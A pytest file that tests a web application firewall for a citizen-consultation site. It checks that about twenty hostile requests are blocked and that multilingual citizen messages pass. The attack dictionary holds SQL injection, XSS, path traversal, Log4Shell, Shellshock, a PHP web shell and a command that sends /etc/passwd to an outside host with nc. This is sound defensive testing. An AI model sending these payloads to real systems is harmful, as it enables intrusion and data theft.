"""The shipped application firewall: citizens' words pass as they are, attacks do not."""

import gzip
import json
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest

from tests.deploy.quiet import quiet
from tests.tools import nginx

BROWSER = {
    "Host": "wsbg.example.gov",
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
    "Accept": "text/html",
    "Origin": "https://wsbg.example.gov",
    "Cookie": "__Host-mine=eyJxIjpbMV19:1vP0dE:abc-def_1; lang=zh",
}
MOST_CHARACTERS = 3000

# One or more of each class of OWASP's rules, in our own words: what is sent, and where.
ATTACKS = {
    "sql in an address": ("GET", "/archive/?q=1%27%20UNION%20SELECT%20password%20FROM%20people--%20", None),
    "sql beside chinese": ("GET", "/archive/?q=%E8%B7%AF%E7%81%AF%27%20OR%20%271%27=%271", None),
    "sql in a form": ("POST", "/hours/2026-11/ask", {"text": "路灯'; DROP TABLE questions; --", "title": "1' OR '1'='1"}),
    "sleeping sql": ("GET", "/questions/?id=1%20AND%20SLEEP(5)", None),
    "a script": ("POST", "/hours/2026-11/ask", {"text": "路灯坏了<script>alert(document.cookie)</script>"}),
    "a handler": ("GET", "/archive/?q=%3Cimg%20src=x%20onerror=alert(1)%3E", None),
    "a script address": ("POST", "/hours/2026-11/ask", {"display_name": "javascript:alert(1)"}),
    "another folder": ("GET", "/files/?name=../../../../etc/passwd", None),
    "another folder, hidden": ("GET", "/files/?name=..%252f..%252f..%252fetc%252fpasswd", None),
    "a file of another host": ("GET", "/embed/?page=http://203.0.113.5/shell.txt?", None),
    "a command": ("POST", "/hours/2026-11/ask", {"title": "; cat /etc/passwd | nc 203.0.113.5 4444"}),
    "a windows command": ("GET", "/track/?id=%26%20powershell.exe%20-enc%20AAAA", None),
    "shellshock": ("GET", "/", {"User-Agent": "() { :; }; /bin/bash -c 'id'"}),
    "php": ("POST", "/hours/2026-11/ask", {"text": "<?php system($_GET['c']); ?>"}),
    "java naming": ("GET", "/?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D", None),
    "java objects": ("GET", "/?q=java.lang.Runtime", None),
    "a scanner": ("GET", "/", {"User-Agent": "sqlmap/1.7"}),
    "a split answer": ("GET", "/?next=%0d%0aSet-Cookie:%20a=b", None),
    "a hidden file": ("GET", "/.git/config", None),
    "a copy of the data": ("GET", "/.env", None),
    "another method": ("TRACE", "/", None),
}  # fmt: skip


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    if nginx.NGINX is None or not nginx.has_firewall():
        pytest.skip("apt-get install nginx libnginx-mod-http-modsecurity modsecurity-crs")
    where = tmp_path_factory.mktemp("guarded")
    # What is measured here is the firewall: the limits have tests of their own.
    with (
        quiet() as port,
        nginx.in_front_of(port, where, firewall=True, shared="127.0.0.1/32") as proxy,
        httpx.Client(base_url=proxy.url, verify=False, timeout=120, headers=BROWSER) as client,
    ):
        yield client


@pytest.mark.parametrize("what", ATTACKS)
def test_an_attack_is_stopped(guarded: httpx.Client, what: str) -> None:
    method, path, more = ATTACKS[what]
    in_header = more is not None and "User-Agent" in more
    headers, data = (more, None) if in_header else (None, more)
    answer = guarded.request(method, path, headers=headers, data=data)
    assert answer.status_code in {400, 403, 405}, answer.status_code


def test_what_people_do_on_the_pages_passes(guarded: httpx.Client) -> None:
    assert guarded.get("/hours/2026-11/").status_code == 204
    assert guarded.get("/archive/", params={"q": "学区房划片 澄湖路", "year": "2026"}).status_code == 204
    assert guarded.get("/live/2026-11/frames", params={"after": "120", "as": "json"}).status_code == 204
    english = (
        "We don't understand it; isn't the lamp (no. 12) 'ours' -- please, who is? Tel. 021-6412 0011 / #3"
    )
    assert guarded.post("/hours/2026-11/ask", data={"text": english, "title": "It's dark"}).status_code == 204
    tibetan = {"text": "བོད་ཡིག། ئۇيغۇرچە ᠮᠣᠩᠭᠣᠯ 𠮷野家的路灯坏了“怎么办”？《条例》第5条（一）……"}
    assert guarded.post("/hours/2026-11/ask", data=tibetan).status_code == 204
    assert guarded.post("/api/v1/hours/2026-11/questions", json=tibetan).status_code == 204


def test_a_stream_is_not_held_back(guarded: httpx.Client) -> None:
    with guarded.stream("GET", "/live/2026-11/stream", timeout=30) as answer:
        assert next(answer.iter_bytes()) == b"data: first\n\n"


def rows(path: Path) -> Iterator[dict[str, str]]:
    with gzip.open(path, "rt", encoding="utf-8") as lines:
        yield from map(json.loads, lines)


def sent(folder: Path, step: int) -> Iterator[tuple[str, dict[str, str], bool]]:
    """Each message as the form and as the API send it, each reply as a group's draft."""
    for number, row in enumerate(rows(folder / "messages.jsonl.gz")):
        if number % step == 0:
            body = {"display_name": "市民甲", "title": row["title"], "kind": "consult",
                    "text": f"{row['title']}\n{row['text']}"[:MOST_CHARACTERS]}  # fmt: skip
            yield "/hours/2026-11/ask", body, False
            yield "/api/v1/hours/2026-11/questions", body, True
    for number, row in enumerate(rows(folder / "replies.jsonl.gz")):
        if number % step == 0:
            body = {"csrfmiddlewaretoken": "A" * 64, "verb": "draft", "text": row["reply"][:MOST_CHARACTERS]}
            yield "/desk/2026-11/questions/5", body, False


@pytest.mark.parametrize("step", [100, pytest.param(4, marks=[pytest.mark.long, pytest.mark.timeout(3600)])])
def test_the_words_of_citizens_and_offices_pass_untouched(
    guarded: httpx.Client, message_files: Path, step: int
) -> None:
    def post(one: tuple[str, dict[str, str], bool]) -> int:
        path, body, as_json = one
        answer = guarded.post(path, json=body) if as_json else guarded.post(path, data=body)
        return answer.status_code

    with ThreadPoolExecutor(4) as pool:
        found = Counter(pool.map(post, sent(message_files, step)))
    print(json.dumps({"sent": found.total(), "stopped": found.total() - found[204]}))
    assert set(found) == {204}, found
